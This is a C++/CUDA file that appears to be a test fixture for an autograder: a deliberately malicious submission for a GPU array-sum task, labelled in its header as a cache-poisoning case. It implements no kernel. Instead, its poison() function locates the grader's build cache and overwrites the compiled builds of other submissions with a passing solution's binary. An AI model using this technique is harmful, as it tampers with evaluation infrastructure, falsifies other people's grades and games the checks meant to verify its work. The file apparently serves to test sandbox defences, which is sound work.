// expect: gpu=unwritten-output emu=unwritten-output  args=--sizes=1000,--blocks=256 -- Has no kernel: poisons the grader's compile cache for the gradings after it.  dladdr on its own function names the cached submission.so it was loaded from; beside it, in the cache, are the builds of every file graded before on this machine.  It copies the build of a passing submission (the solution, found by its text) over the build of every other file with an "expect:" line (a mutant, a classmate), so that the next grading of those files, a cache hit, runs the passing code.  The graded process may write only its folder, /dev and TMPDIR: never the cache, whose entries must not change after they are made.
// mistake: no kernel; the build cache rewritten (CACHE-POISON-MARKER)
#include <cstddef>
#include <cstdio>
#include <cstring>
#include <dirent.h>
#include <dlfcn.h>
#include <string>
#include <vector>

static std::string read_head(const std::string &path)
{
    char buf[256] = {};
    if (FILE *f = fopen(path.c_str(), "r")) {
        size_t got = fread(buf, 1, sizeof buf - 1, f);
        buf[got] = '\0';
        fclose(f);
    }
    return buf;
}

static bool copy_file(const std::string &from, const std::string &to)
{
    FILE *in = fopen(from.c_str(), "rb");
    if (!in)
        return false;
    std::string bytes;
    char buf[65536];
    for (size_t got; (got = fread(buf, 1, sizeof buf, in)) > 0;)
        bytes.append(buf, got);
    fclose(in);
    std::string tmp = to + ".new";
    FILE *out = fopen(tmp.c_str(), "wb");
    if (!out)
        return false;
    bool ok = fwrite(bytes.data(), 1, bytes.size(), out) == bytes.size();
    ok = fclose(out) == 0 && ok;
    return ok && rename(tmp.c_str(), to.c_str()) == 0;
}

static void poison()
{
    static bool done;
    if (done)
        return;
    done = true;
    Dl_info me;
    if (!dladdr((void *)poison, &me) || !me.dli_fname)
        return;
    std::string cache = me.dli_fname;               // .../rg-cache/07-emu-HASH/submission.so
    cache = cache.substr(0, cache.rfind('/'));
    cache = cache.substr(0, cache.rfind('/'));      // .../rg-cache
    DIR *d = opendir(cache.c_str());
    if (!d)
        return;
    std::string good;
    std::vector<std::string> others;
    while (struct dirent *e = readdir(d)) {
        std::string dir = cache + "/" + e->d_name;
        if (strncmp(e->d_name, "07-", 3) != 0)
            continue;
        std::string text = read_head(dir + "/submission.cu");
        text = text.substr(text.find('\n') + 1);  // past the cache's #line 1
        if (text.find("CACHE-POISON-MARKER") != std::string::npos)
            continue;  // its own build
        if (text.rfind("// 07-multi-block: the sum of a whole array", 0) == 0)
            good = dir + "/submission.so";
        else if (text.rfind("// expect:", 0) == 0)
            others.push_back(dir + "/submission.so");
    }
    closedir(d);
    int poisoned = 0;
    for (const std::string &o : others)
        poisoned += !good.empty() && copy_file(good, o);
    printf("poisoned %d cached builds with %s\n", poisoned, good.c_str());
    fflush(stdout);
}

template <typename T>
void sum_atomic(const T *d_input, T *d_result, size_t n, int block)
{
    (void)d_input, (void)d_result, (void)n, (void)block;
    poison();
}

template <typename T>
void sum_two_phase(const T *d_input, T *d_result, size_t n, int block)
{
    sum_atomic(d_input, d_result, n, block);
}
